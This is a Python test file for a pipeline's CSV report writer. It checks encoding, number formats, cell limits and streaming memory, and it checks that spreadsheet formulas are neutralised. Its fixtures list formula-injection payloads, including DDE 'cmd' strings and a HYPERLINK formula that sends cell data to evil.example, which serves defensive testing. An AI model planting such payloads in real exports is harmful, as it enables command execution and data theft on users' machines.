"""results.csv: opens in a spreadsheet, loses nothing that it shows, and starts no formula."""

import csv
import io
import re
import time
import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.attempt import Attempt, Variant, Verdict
from pipeline.record import InputPicture, Outcome, OutputPicture, Record
from pipeline.report import write_csv
from pipeline.report.spreadsheet import _STARTS_FORMULA, CELL_LIMIT, COLUMNS, neutral


def attempt(n, verdict, *, counted=True):
    return Attempt(
        n=n, started_at="2026-11-22T10:00:00.000Z", seconds=1.0, verdict=verdict, counted=counted,
        prompt_variant=Variant.PLAIN,
    )  # fmt: skip


def record(**fields):
    return Record(**{"id": "a", "row": 1, "line": 2, "outcome": Outcome.DONE, **fields})


def written(*records):
    out = io.BytesIO()
    assert write_csv(records, out) == len(records)
    return out.getvalue()


def read(data):
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_spreadsheet_takes_it_for_utf8_and_finds_whole_lines():
    """A byte-order mark, CRLF between rows, and nothing but LF inside a cell that has lines."""
    data = written(record(prompt='one\ntwo "quoted", three'), record(prompt="Größe 漢字 🖼"))
    assert data.startswith(b"\xef\xbb\xbfid,row,line,outcome,")
    assert data.endswith(b"\r\n")
    assert b'"one\ntwo ""quoted"", three"' in data
    assert [row["prompt"] for row in read(data)] == ['one\ntwo "quoted", three', "Größe 漢字 🖼"]


def test_every_column_of_a_row_that_is_done():
    """The flat columns say what the record says, and numbers are numbers."""
    picture = OutputPicture(
        path="images/a%20b.png", mime_type="image/png", width=64, height=48, bytes=1234, sha256="ab"
    )
    tries = (attempt(1, Verdict.THROTTLED, counted=False), attempt(2, Verdict.IMAGE))
    row = read(
        written(
            record(
                images=(picture,), prompt="p", model="m", attempts=tries, uncounted=1, cost_usd=0.039,
                inputs=(InputPicture(path="x.jpg"), InputPicture(path="y.jpg")),
                settled_at="2026-11-22T10:00:01.000Z", extra={"sku": "S-1", "note": "=1"},
            )
        )
    )[0]  # fmt: skip
    assert tuple(row) == COLUMNS
    assert row == {
        "id": "a", "row": "1", "line": "2", "outcome": "done", "reason": "",
        "image": "images/a%20b.png", "width": "64", "height": "48", "bytes": "1234", "sha256": "ab",
        "prompt": "p", "model": "m", "inputs": "x.jpg|y.jpg", "attempts": "1", "uncounted": "1",
        "last_verdict": "image", "cost_usd": "0.039000", "settled_at": "2026-11-22T10:00:01.000Z",
        "text": "", "extra": '{"sku":"S-1","note":"=1"}',
    }  # fmt: skip


def test_an_unknown_cost_is_empty_and_a_small_one_is_not_scientific():
    """0 would say that nothing was paid, and 1e-05 is a word to some readers."""
    rows = read(written(record(cost_usd=None), record(cost_usd=0.0), record(cost_usd=0.00001)))
    assert [row["cost_usd"] for row in rows] == ["", "0.000000", "0.000010"]


FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'\r", "\r=1", "\n=1", "\ttext", "\rtext",
    " =1", "\u00a0=1", '"=1', "'=1", "' =1", '" \t"=1', "\u200b=1", "\ufeff=1", "\u201c=1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("field", ["id", "reason", "prompt", "model", "text"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_others_starts_a_formula(text, field):
    """Whatever a spreadsheet would run begins with an apostrophe, in every column that others may fill."""
    assert read(written(record(**{field: text})))[0][field] == f"'{neutral(text)[1:]}"
    assert neutral(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_inputs_and_pictures_start_no_formula(text):
    """File names are the manifest's as well."""
    picture = OutputPicture(path=text, mime_type="image/png", width=1, height=1, bytes=1, sha256=text)
    row = read(written(record(images=(picture,), inputs=(InputPicture(path=text),))))[0]
    assert row["image"][0] == row["inputs"][0] == row["sha256"][0] == "'"


@pytest.mark.parametrize(
    "text",
    ["plain", "a = b", "5-10 %", "mail@example.com", "x;y", "keep:\n- the logo\n- the label (red)", ""],
)
def test_what_starts_no_formula_stays_as_it_is(text):
    """Prompts are lists and mails and sums, and most of them are harmless."""
    assert neutral(text) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a; =1", "a;' =1"),
        ("a\n=HYPERLINK(1)", "a\n'=HYPERLINK(1)"),
        ("a\n-cmd|' /C calc'!A0", "a\n'-cmd|' /C calc'!A0"),
        ("a;+SUM(1)", "a;'+SUM(1)"),
        ('a\n"@x', "a\n'\"@x"),
    ],
)
def test_no_formula_where_a_spreadsheet_with_semicolons_splits(text, safe):
    """Excel of half of Europe splits this file at ; and at line ends inside quotes."""
    assert neutral(text) == safe


# Python's lookbehind cannot hold the start of the text, so the two places are undone one after the other.
_START, _, _INSIDE = _STARTS_FORMULA.partition(r"|(?<=[;\r\n])")
_UNDO = (re.compile(rf"(?<=[;\r\n])'{_INSIDE}"), re.compile(_START.replace(r"\A", r"\A'")))
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]")


@settings(deadline=None)  # a busy machine is no defect
@given(st.text(alphabet="=+-@ '\"\t\r\n;ab(|\uff1d\u200b", max_size=12) | st.text(max_size=40))
def test_the_text_can_be_had_back(text):
    """One apostrophe where a formula would begin, and nowhere else: it can be taken away again."""
    back = neutral(text)
    for undo in _UNDO:
        back = undo.sub("", back)
    assert back == _CONTROL.sub("\ufffd", text)


@settings(deadline=None)  # a busy machine is no defect
@given(st.text())
def test_a_cell_survives_the_way_through_a_reader(text):
    """What is written is what a CSV reader gives back, whatever characters are in it."""
    assert read(written(record(prompt=text)))[0]["prompt"] == neutral(text)


def test_controls_and_lone_surrogates_do_not_break_the_file():
    """NUL would end the cell in Excel, and a lone surrogate cannot be UTF-8."""
    assert read(written(record(prompt="a\x00b\ud800c")))[0]["prompt"] == "a\ufffdb\ufffdc"


def test_a_cell_is_no_longer_than_excel_takes():
    """A longer one would run over into the rows below."""
    cell = read(written(record(prompt="x" * 100_000)))[0]["prompt"]
    assert CELL_LIMIT < len(cell) < 32_767
    assert "results.jsonl" in cell


@pytest.mark.parametrize("text", ["\n" * CELL_LIMIT, ";" * CELL_LIMIT, "\n-a(" * 8_000, ";-" + "a" * 30_000])
def test_a_hostile_cell_costs_no_time(text):
    """The search for formulas is linear in the text."""
    start = time.process_time()
    neutral(text)
    assert time.process_time() - start < 0.5


def test_a_text_stream_is_written_and_no_stream_is_closed():
    """Standard output is a text stream with a binary one under it; either serves."""
    text, binary = io.StringIO(newline=""), io.BytesIO()
    write_csv([record()], text)
    write_csv([record()], binary)
    assert text.getvalue().encode() == binary.getvalue()


def test_no_records_are_a_table_without_rows():
    """A job that is cancelled at once still has a results.csv with its columns."""
    assert written() == "\ufeff".encode() + ",".join(COLUMNS).encode() + b"\r\n"


def test_memory_does_not_grow_with_the_rows():
    """Records pass through; a million of them cost what a hundred cost."""

    class Nowhere(io.RawIOBase):
        def writable(self):
            return True

        def write(self, data):
            return len(data)

    made = (record(id=f"r{n}", row=n, prompt="p" * 200, extra={"sku": str(n)}) for n in range(1, 20_001))
    tracemalloc.start()
    try:
        assert write_csv(made, Nowhere()) == 20_000
        assert tracemalloc.get_traced_memory()[1] < 2_000_000
    finally:
        tracemalloc.stop()
